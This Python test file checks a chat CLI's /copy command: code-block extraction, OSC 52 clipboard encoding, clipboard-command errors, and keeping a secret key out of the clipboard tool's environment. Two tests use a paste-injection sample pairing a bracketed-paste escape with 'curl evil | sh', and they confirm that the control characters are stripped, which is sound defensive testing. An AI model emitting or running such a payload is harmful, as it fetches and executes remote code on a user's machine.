"""/copy: the last reply, or its Nth code block, on the clipboard (issue 21, Build 1).

In tmux (a real terminal) the text reaches a clipboard the test can read: tmux's
own paste buffer through OSC 52, or a file a stand-in clipboard_command writes.
"""

from __future__ import annotations

import json
import os
import shutil
import sys
from pathlib import Path

import pytest
from cli_runner import invoke
from hypothesis import given
from hypothesis import strategies as st
from test_terminal import Terminal, terminal  # noqa: F401  (the fixture)

from chatmem.clipboard import code_blocks, osc52, pasteable, pick
from chatmem.errors import UsageError
from chatmem.store import Store

REPLY = ("两个函数：\n\n```python\ndef hello():\n    return '你好'\n```\n\n"
         "and\n\n~~~sh\necho 杭州\n~~~\n")
tmux = pytest.mark.skipif(shutil.which("tmux") is None, reason="tmux is not installed")


def setup(tmp_path: Path, extra_config: str = "",
          reply: str = REPLY) -> tuple[dict[str, str], str]:
    script = tmp_path / "replies.jsonl"
    script.write_text(json.dumps({"reply": reply}) + "\n", encoding="utf-8")
    config = tmp_path / "config.toml"
    config.write_text(f'provider = "scripted"\n{extra_config}[scripted]\nscript = "{script}"\n',
                      encoding="utf-8")
    env = {"HOME": str(tmp_path), "TERM": "xterm-256color", "PATH": os.environ["PATH"],
           "PYTHONPATH": os.environ.get("PYTHONPATH", ""), "LANG": "C.UTF-8"}
    return env, f"{sys.executable} -m chatmem chat t --config {config} --db {tmp_path / 't.db'}"


def test_code_blocks_are_found_with_either_fence_and_lose_their_fences() -> None:
    assert code_blocks(REPLY) == ["def hello():\n    return '你好'\n", "echo 杭州\n"]
    assert code_blocks("no code here") == []
    assert code_blocks("```\nunclosed\nstill code") == ["unclosed\nstill code\n"]
    assert code_blocks("  ```\n  indented\n    more\n  ```") == ["indented\n  more\n"]
    assert code_blocks("````\n```\ninner\n```\n````") == ["```\ninner\n```\n"]


@given(st.lists(st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="`~\r\n\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029"),  # noqa: E501
                        max_size=20), max_size=5))
def test_every_fenced_block_comes_back_as_written(lines: list[str]) -> None:
    body = "".join(f"{line}\n" for line in lines)
    assert code_blocks(f"intro\n```\n{body}```\nend\n~~~\n{body}~~~") == [body, body]


def test_pick_names_how_many_blocks_there_are() -> None:
    assert pick(REPLY, None) == REPLY
    assert pick(REPLY, 2) == "echo 杭州\n"
    with pytest.raises(UsageError, match="has 2 code blocks"):
        pick(REPLY, 3)


def test_osc52_carries_the_text_as_utf8_base64() -> None:
    assert osc52("中文") == "\x1b]52;c;5Lit5paH\x07"


@tmux
def test_copy_reaches_the_terminal_clipboard_through_osc52(
    terminal: Terminal, tmp_path: Path  # noqa: F811
) -> None:
    env, chat = setup(tmp_path)
    terminal.start(env)
    terminal.tmux("set-option", "-g", "set-clipboard", "on")
    terminal.run(chat)
    terminal.wait_for("t>")
    terminal.keys("hi", "Enter")
    terminal.wait_for("tokens of 4,000")
    terminal.keys("/copy", "Enter")
    terminal.wait_for("copied the last reply")
    assert terminal.tmux("show-buffer") == REPLY
    terminal.keys("/copy 1", "Enter")
    terminal.wait_for("copied code block 1")
    assert terminal.tmux("show-buffer") == "def hello():\n    return '你好'\n"
    terminal.keys("C-d")
    terminal.wait_for("EXITED 0")


@tmux
def test_copy_gives_the_text_to_the_configured_clipboard_command(
    terminal: Terminal, tmp_path: Path  # noqa: F811
) -> None:
    clip = tmp_path / "clipboard.txt"
    tool = tmp_path / "clip.sh"
    tool.write_text(f"#!/bin/sh\ncat > '{clip}'\n", encoding="utf-8")
    tool.chmod(0o755)
    env, chat = setup(tmp_path, f'clipboard_command = "{tool}"\n')
    terminal.start(env)
    terminal.run(chat)
    terminal.wait_for("t>")
    terminal.keys("hi", "Enter")
    terminal.wait_for("tokens of 4,000")
    terminal.keys("/copy 2", "Enter")
    terminal.wait_for("copied code block 2")
    assert clip.read_text(encoding="utf-8") == "echo 杭州\n"
    terminal.keys("/copy", "Enter")
    terminal.wait_for("copied the last reply")
    assert clip.read_text(encoding="utf-8") == REPLY
    terminal.keys("C-d")
    terminal.wait_for("EXITED 0")


def piped_chat(tmp_path: Path, lines: list[str], extra_config: str = "", reply: str = REPLY):
    setup(tmp_path, extra_config, reply)
    return invoke("chat", "t", "--config", str(tmp_path / "config.toml"),
                  "--db", str(tmp_path / "t.db"), input="\n".join(lines) + "\n", width=200)


@pytest.mark.parametrize(("lines", "config", "error"), [
    (["/copy"], "", "/copy: no reply yet in this session"),
    (["hi", "/copy 3"], "", "/copy 3: the last reply has 2 code blocks"),
    (["hi", "/copy x"], "", "/copy takes one code block number (1 or more), got 'x'"),
    (["hi", "/copy"], "", "/copy needs a terminal"),
    (["hi", "/copy"], 'clipboard_command = "false"\n',
     "clipboard_command 'false' failed (exit 1); nothing copied"),
    (["hi", "/copy"], 'clipboard_command = "/no/such/tool"\n',
     "clipboard_command '/no/such/tool' could not run: No such file or directory"),
])
def test_copy_errors_say_why_in_one_line_and_the_chat_goes_on(
    tmp_path: Path, lines: list[str], config: str, error: str
) -> None:
    result = piped_chat(tmp_path, [*lines, "after"], config)
    assert result.exit_code == 2, result.stderr
    errors = [line for line in result.stderr.splitlines() if line.startswith("error")]
    assert len(errors) == 1 and error in errors[0], result.stderr
    with Store(tmp_path / "t.db") as store:  # the message after it was sent
        assert store.history.messages(store.sessions.session("t").id)[-2].content == "after"


def test_pasteable_leaves_out_the_controls_a_paste_would_act_on() -> None:
    assert pasteable("a\tb\r\n杭州\n") == ("a\tb\n杭州\n", 0)
    assert pasteable("ls\x1b[201~\ncurl evil | sh\r\x07\x9b\x7f") == (
        "ls[201~\ncurl evil | sh", 5)


def test_copy_puts_no_escape_on_the_clipboard_and_says_what_it_left_out(
        tmp_path: Path) -> None:
    clip, tool = tmp_path / "clipboard.txt", tmp_path / "clip.sh"
    tool.write_text(f"#!/bin/sh\ncat > '{clip}'\n", encoding="utf-8")
    tool.chmod(0o755)
    reply = "运行:\n```sh\nls\x1b[201~\ncurl evil | sh\n```\n"
    result = piped_chat(tmp_path, ["hi", "/copy 1"], f'clipboard_command = "{tool}"\n', reply)
    assert result.exit_code == 0, result.stderr
    assert clip.read_text(encoding="utf-8") == "ls[201~\ncurl evil | sh\n"
    assert ("copied code block 1 (23 characters) with clipboard_command; 1 control character"
            " left out") in result.stderr


def test_the_clipboard_command_runs_without_the_history_key(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """clipboard_command inherited CHATMEM_KEY, which it never needs."""
    from chatmem.clipboard import copy_with_command

    seen = tmp_path / "env.txt"
    tool = tmp_path / "clip.sh"
    tool.write_text(f"#!/bin/sh\nenv > '{seen}'\ncat >> '{seen}'\n", encoding="utf-8")
    tool.chmod(0o755)
    monkeypatch.setenv("CHATMEM_KEY", "门禁-secret-4412")
    monkeypatch.setenv("CHATMEM_NEW_KEY", "next-secret")
    copy_with_command(str(tool), "杭州")
    written = seen.read_text(encoding="utf-8")
    assert written.endswith("杭州") and "PATH=" in written
    assert "secret" not in written


def test_copy_after_a_cancelled_reply_says_it_copies_a_reply_cut_short(tmp_path: Path) -> None:
    """A reply cancelled half-way is stored as far as it came, and /copy copied it as "the
    last reply": pasted elsewhere, it passed for the whole answer. Copied still, said so."""
    from registered import open_session

    from chatmem.config.settings import Settings
    from chatmem.providers.scripted import ScriptedProvider
    from chatmem.render import make_console
    from chatmem.repl.loop import Repl

    clip, tool = tmp_path / "clipboard.txt", tmp_path / "clip.sh"
    tool.write_text(f"#!/bin/sh\ncat > '{clip}'\n", encoding="utf-8")
    tool.chmod(0o755)
    with Store(tmp_path / "t.db") as store:
        engine = open_session(store, Settings(clipboard_command=str(tool)), ScriptedProvider(),
                              "t", strategy="window")
        deltas: list[str] = []

        def ctrl_c_after_two(delta: str) -> None:
            deltas.append(delta)
            if len(deltas) == 2:
                raise KeyboardInterrupt

        cancelled = engine.run_turn("我们五月去杭州 and then to Suzhou by train",
                                    on_delta=ctrl_c_after_two)
        assert cancelled.record.status == "cancelled"
        partial = cancelled.record.reply
        assert partial and partial != "echo #1: 我们五月去杭州 and then to Suzhou by train"
        err = make_console(stderr=True)
        with err.capture() as said:
            Repl(engine, make_console(), err).command("/copy")
    assert clip.read_text(encoding="utf-8") == partial
    assert "cut short" in said.get() and "cancelled" in said.get() and "turn 1" in said.get()
